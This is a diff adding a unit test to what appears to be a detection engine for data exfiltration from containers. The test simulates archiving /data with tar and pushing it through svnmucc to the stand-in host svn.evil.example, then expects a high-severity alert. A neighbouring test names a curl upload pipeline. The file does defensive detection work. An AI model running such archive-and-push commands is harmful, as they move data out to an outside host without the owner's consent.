@@ -78,6 +78,22 @@ describe('a pipeline feeding a push that reads stdin', () => {
     expect(brief(run(sorted(s)).alerts)).toEqual([LOW]);
   });
 
+  it('tar czf - /data | svnmucc put - URL: svnmucc reads the file it commits from stdin → high', () => {
+    const s = new Scenario();
+    const c = s.container();
+    const dest = 'https://svn.evil.example/repo/loot/d.tgz';
+    const sh = shell(s, c, `tar czf - /data | svnmucc -m x put - ${dest}`);
+    s.wait(2);
+    const tar = s.exec(c, '/bin/tar', 'czf - /data', { parent: sh });
+    s.wait(3);
+    const pushAt = s.now;
+    s.exec(c, '/usr/bin/svnmucc', `-m x put - ${dest}`, { parent: sh });
+    readSlowly(s, tar, '/data', 100 * MiB, pushAt + 10_500, pushAt + 30_000);
+    expect(brief(run(sorted(s)).alerts)).toEqual([
+      { rule: 'bulk-read-then-push', severity: 'high', tool: 'svnmucc', destination: 'svn.evil.example' },
+    ]);
+  });
+
   it("a pipeline stage's children are the pipeline too: sh -c 'cat a b' | curl -T - URL", () => {
     const s = new Scenario();
     const c = s.container();
